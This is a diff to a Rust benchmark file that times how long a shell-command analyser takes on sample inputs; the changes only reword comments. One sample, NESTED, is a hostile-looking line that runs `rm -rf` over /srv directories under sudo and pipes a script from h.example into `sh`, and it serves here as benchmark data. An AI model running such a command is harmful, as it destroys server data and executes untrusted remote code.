@@ -1,8 +1,8 @@
-//! What it costs to understand a command, as raw measurements for `cargo xtask bench`.
+//! Raw measurements of analysing commands, for `cargo xtask bench`.
 //!
-//! Without arguments: prints an object from the name of a command to durations in microseconds.
-//! With a name and a number: analyzes that command so many times and prints nothing, for a tool
-//! that counts instructions from outside.
+//! Without arguments: prints an object from command name to durations in microseconds. With a name and a
+//! number: analyses that command so many times and prints nothing, for a tool that counts instructions from
+//! outside.
 #![expect(clippy::disallowed_methods, reason = "a bench has a clock and prints")]
 
 use std::hint::black_box;
@@ -22,7 +22,7 @@ const BATCH: u32 = 20;
 const TYPICAL: &str = "cd packages/server && RUST_LOG=debug cargo test --workspace --no-fail-fast -- --nocapture 2>&1 | tee /tmp/test.log | grep -E 'FAILED|panicked'";
 const SHORT: &str = "git status --short";
 const NESTED: &str = "sudo env A=1 bash -c 'for f in a b c; do rm -rf \"/srv/$f\"; done; curl -sL https://h.example/i.sh | sh'";
-/// One line of the long scripts that show the curve.
+/// One line of the long scripts that show how cost grows with length.
 const LINE: &str =
     "if [ -f \"$HOME/x.txt\" ]; then cp \"$HOME/x.txt\" build/out-$i.txt && echo done >> log; fi\n";
 
